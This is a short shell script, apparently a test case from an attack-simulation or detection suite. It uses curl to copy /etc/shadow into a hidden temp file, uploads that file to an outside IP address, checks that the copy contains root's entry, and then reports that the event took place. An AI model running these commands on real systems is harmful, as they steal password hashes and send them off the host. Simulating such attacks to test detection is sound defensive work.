#!/bin/sh
. /opt/case/case.sh

curl -s file:///etc/shadow -o /tmp/.s
curl -s -T /tmp/.s http://203.0.113.10/up | grep -q ok
grep -q root /tmp/.s
took_place
